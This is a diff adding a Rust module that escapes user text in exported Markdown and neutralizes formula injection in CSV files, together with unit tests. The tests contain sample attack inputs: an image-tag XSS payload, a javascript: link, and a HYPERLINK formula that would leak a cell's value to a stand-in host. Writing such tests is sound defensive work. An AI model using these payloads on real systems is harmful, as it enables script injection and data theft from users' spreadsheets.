@@ -1,0 +1,161 @@
+//! The one writer of user text into the exported formats: Markdown (the proposal, the
+//! announcement, the reports) and CSV (candidates, the evaluation). Whatever a user typed comes
+//! out as text, never as structure: no heading, list, table cell, link, image or HTML in
+//! Markdown, and no formula in a spreadsheet.
+
+use std::fmt;
+
+/// User text inside Markdown, written with `{}`: `Md(&case.exchange.name)`.
+///
+/// Every character Markdown (CommonMark, GitHub's tables, inline HTML) gives a meaning to is
+/// backslash-escaped, and line breaks and other control characters become spaces, so the text
+/// stays on its line. The app's own reader (crate::reports::markdown) and every CommonMark renderer
+/// show the escaped characters as themselves.
+pub struct Md<'a>(pub &'a str);
+
+impl fmt::Display for Md<'_> {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        use fmt::Write;
+        for (i, c) in self.0.char_indices() {
+            let rest = &self.0[i..];
+            // GitHub's autolinks need no brackets: `http://`, `www.` and `a@b.c` are broken up.
+            let autolink = (c == ':' && rest.starts_with("://"))
+                || c == '@'
+                || (c == '.'
+                    && self.0[..i]
+                        .get(i.saturating_sub(3)..)
+                        .is_some_and(|w| w.eq_ignore_ascii_case("www")));
+            if autolink {
+                f.write_char('\\')?;
+                f.write_char(c)?;
+                continue;
+            }
+            match c {
+                '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '~' | '&' | '!' | '#' => {
+                    f.write_char('\\')?;
+                    f.write_char(c)?;
+                }
+                c if c.is_control() || c == '\u{2028}' || c == '\u{2029}' => f.write_char(' ')?,
+                c => f.write_char(c)?,
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Spreadsheets run a cell that starts with one of these as a formula (OWASP, "CSV Injection").
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether `text` is quotes followed by a formula's first character: the texts that get (or
+/// got) a neutralizing quote.
+fn formula_like(text: &str) -> bool {
+    text.trim_start_matches('\'')
+        .starts_with(FORMULA_START.as_slice())
+}
+
+/// One CSV field of user text: a text a spreadsheet would run as a formula gets a leading `'`
+/// (OWASP's advice; spreadsheets show the text), then the field is quoted when it must be
+/// (RFC 4180). `csv_text` reads it back exactly.
+pub fn csv_field(text: &str) -> String {
+    let text = if formula_like(text) {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    };
+    if text.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", text.replace('"', "\"\""))
+    } else {
+        text
+    }
+}
+
+/// A CSV field's user text as `csv_field` wrote it: the neutralizing quote removed. A quote
+/// is only ever added before quotes and a formula's first character, so removing one there
+/// gives back what was written, also for a name that itself starts with a quote.
+pub fn csv_text(field: &str) -> &str {
+    match field.strip_prefix('\'') {
+        Some(rest) if formula_like(rest) => rest,
+        _ => field,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn markdown_text_stays_text() {
+        assert_eq!(
+            Md("<img src=x onerror=alert(1)>").to_string(),
+            "\\<img src=x onerror=alert(1)\\>"
+        );
+        assert_eq!(
+            Md("[t](javascript:alert(1))").to_string(),
+            "\\[t\\](javascript:alert(1))"
+        );
+        assert_eq!(Md("A\n# B\r\n| c |").to_string(), "A \\# B  \\| c \\|");
+        assert_eq!(
+            Md("**x** `y` _z_ ~w~ &amp;").to_string(),
+            "\\*\\*x\\*\\* \\`y\\` \\_z\\_ \\~w\\~ \\&amp;"
+        );
+        assert_eq!(Md("Binance.US, 2-day").to_string(), "Binance.US, 2-day");
+        assert_eq!(
+            Md("http://x.example/?a= www.y.org a@b.c").to_string(),
+            "http\\://x.example/?a= www\\.y.org a\\@b.c"
+        );
+    }
+
+    #[test]
+    fn markdown_text_reads_back_as_itself_in_the_apps_reader() {
+        for text in [
+            "<b>x</b>",
+            "a | b",
+            "**bold**",
+            "\\",
+            "[x](y)",
+            "# h",
+            "https://x.y www.z a@b",
+        ] {
+            let md = format!("| {} |\n| --- |\n| {} |\n", Md(text), Md(text));
+            let blocks = crate::reports::markdown::parse(&md);
+            let crate::reports::markdown::Block::Table { header, rows } = &blocks[0] else {
+                panic!("{blocks:?}");
+            };
+            let cell = |inl: &Vec<crate::reports::markdown::Inline>| match inl.as_slice() {
+                [crate::reports::markdown::Inline::Text(t)] => t.clone(),
+                other => panic!("{other:?}"),
+            };
+            assert_eq!(cell(&header[0]), text);
+            assert_eq!(cell(&rows[0][0]), text);
+        }
+    }
+
+    #[test]
+    fn formulas_are_neutralized_and_read_back() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://x/?\"&B2,\"Click\")"),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"Click\"\")\""
+        );
+        for (text, field) in [
+            ("+1", "'+1"),
+            ("-2", "'-2"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "\"'\rx\""),
+            ("Ana", "Ana"),
+            ("O'Neil", "O'Neil"),
+            ("'quoted", "'quoted"),
+            ("'=x", "''=x"),
+        ] {
+            assert_eq!(csv_field(text), field, "{text:?}");
+        }
+        for text in ["=1", "'=1", "''=1", "'", "''", "Ana", "'Ana", "-", "'-"] {
+            let field = csv_field(text);
+            let unquoted = field
+                .strip_prefix('"')
+                .and_then(|f| f.strip_suffix('"'))
+                .map_or(field.clone(), |f| f.replace("\"\"", "\""));
+            assert_eq!(csv_text(&unquoted), text, "{field:?}");
+        }
+    }
+}
